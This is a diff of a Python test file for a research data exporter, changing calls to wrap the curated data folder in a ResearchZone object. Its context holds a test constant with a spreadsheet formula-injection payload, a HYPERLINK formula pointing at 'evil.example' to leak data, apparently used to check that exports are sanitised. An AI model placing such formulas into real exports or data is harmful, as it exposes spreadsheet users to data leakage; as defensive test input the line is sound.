@@ -24,6 +24,7 @@ from dwt.export.research import (
     run_cli,
 )
 from dwt.schema import arrow_type, curated_tables, load_instrument
+from dwt.zones import ResearchZone
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","klik")'
 REGION = "haaglanden"
@@ -128,7 +129,7 @@ def exports(data_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[st
     out = {}
     for fmt in ("sav", "csv", "parquet"):
         folder = tmp_path_factory.mktemp(f"export-{fmt}")
-        export_research(data_dir / "curated", folder, fmt)
+        export_research(ResearchZone(data_dir / "curated"), folder, fmt)
         out[fmt] = folder
     return out
 
@@ -230,7 +231,7 @@ def test_gnu_pspp_reads_the_sav_dictionary_and_values(
 def test_sav_header_stamp_is_fixed_so_exports_are_byte_identical(
     data_dir: Path, exports: dict[str, Path], tmp_path: Path
 ) -> None:
-    again = export_research(data_dir / "curated", tmp_path, "sav")
+    again = export_research(ResearchZone(data_dir / "curated"), tmp_path, "sav")
     for path in again:
         assert path.read_bytes() == (exports["sav"] / path.name).read_bytes(), path.name
     header = (tmp_path / "placements.sav").read_bytes()[: SAV_STAMP_OFFSET + len(SAV_STAMP)]
@@ -241,7 +242,7 @@ def test_sav_header_stamp_is_fixed_so_exports_are_byte_identical(
 def test_same_lake_gives_the_same_bytes(
     fmt: str, data_dir: Path, exports: dict[str, Path], tmp_path: Path
 ) -> None:
-    for path in export_research(data_dir / "curated", tmp_path, fmt):
+    for path in export_research(ResearchZone(data_dir / "curated"), tmp_path, fmt):
         assert path.read_bytes() == (exports[fmt] / path.name).read_bytes(), path.name
 
 
@@ -300,7 +301,7 @@ def test_no_export_file_mentions_the_restricted_zone(
 def test_an_empty_lake_exports_empty_tables_with_their_columns(fmt: str, tmp_path: Path) -> None:
     curated = tmp_path / "curated"
     curated.mkdir()
-    paths = export_research(curated, tmp_path / "out", fmt)
+    paths = export_research(ResearchZone(curated), tmp_path / "out", fmt)
     assert (tmp_path / "out" / "codebook.md").is_file()
     for table in research_tables():
         path = tmp_path / "out" / f"{table}.{fmt}"
